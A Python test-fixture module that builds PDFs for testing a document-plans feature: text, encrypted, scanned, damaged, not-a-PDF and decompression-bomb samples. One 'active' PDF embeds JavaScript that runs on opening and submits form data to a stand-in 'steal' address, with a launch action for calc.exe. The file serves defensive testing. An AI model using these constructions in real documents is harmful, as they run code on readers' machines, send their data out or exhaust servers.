"""Build small PDFs for the plans tests: pages of given text (fpdf2), and the hostile or unusable kinds."""
from __future__ import annotations

import io
import zipfile

from fpdf import FPDF
from fpdf.actions import LaunchAction, URIAction


def pdf_bytes(pages: list[str], *, encrypt: str | None = None, link: bool = False) -> bytes:
    """A PDF with one page per string (the text wrapped). `encrypt`: a user password; `link`: a web
    link and a launch action on the first page."""
    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 6, text)
    if link:
        pdf.page = 1
        pdf.link(10, 10, 50, 10, "https://example.org/run-me")
        pdf.add_action(URIAction("https://example.org/uri-action"), 10, 30, 50, 10)
        pdf.add_action(LaunchAction("calc.exe"), 10, 50, 50, 10)
    if encrypt:
        pdf.set_encryption(owner_password="owner-secret", user_password=encrypt)
    return bytes(pdf.output())


def scanned_pdf() -> bytes:
    """Pages that are only pictures, as a scanner makes them: no text layer."""
    from PIL import Image

    image = Image.new("RGB", (200, 280), "white")
    for x in range(20, 180):
        for y in range(40, 44):
            image.putpixel((x, y), (0, 0, 0))   # a "line of print" that is only pixels
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    pdf = FPDF()
    for _ in range(3):
        pdf.add_page()
        pdf.image(io.BytesIO(buffer.getvalue()), x=0, y=0, w=210)
    return bytes(pdf.output())


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from its objects (1-based numbers in order), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


VISIBLE = "Visible words of the plan about family support and early help for every child in the area."
SCRIPT = "app.alert('SCRIPT RAN'); this.submitForm('https://example.org/steal');"


def active_pdf() -> bytes:
    """One page of text whose document runs JavaScript when opened (OpenAction and the document's
    named scripts), with a link, a launch action and a form field that holds text of its own."""
    content = b"BT /F1 11 Tf 40 760 Td (" + VISIBLE.encode() + b") Tj ET"
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R >> "
        b"/AcroForm << /Fields [9 0 R] >> /AA << /WC 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R /Annots [8 0 R 9 0 R] /AA << /O 6 0 R >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /S /JavaScript /JS (" + SCRIPT.encode() + b") >>",
        b"<< /Names [(run) 6 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [40 700 200 720] /A << /S /URI /URI (https://example.org/x) >> >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (FORM FIELD VALUE) /Rect [40 600 200 620] "
        b"/AA << /F 6 0 R >> >>",
    ])


def not_a_pdf() -> bytes:
    """A zip (an .xlsx, say) named as if it were a PDF."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
    return buffer.getvalue()


def damaged_pdf(good: bytes) -> bytes:
    """A PDF's header followed by bytes that are not PDF at all."""
    return good[:9] + bytes(range(256)) * 40


def bomb_pdf(expands_to: int) -> bytes:
    """A small PDF whose one page's text stream (Flate) expands to `expands_to` bytes: a page of
    text, then spaces."""
    import zlib

    inflate = zlib.compressobj(9)
    z = inflate.compress(b"BT /F1 12 Tf 72 712 Td (Family support words for the whole plan.) Tj ET\n")
    for _ in range(expands_to // 2**20):
        z += inflate.compress(b" " * 2**20)
    z += inflate.flush()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(z) + z + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
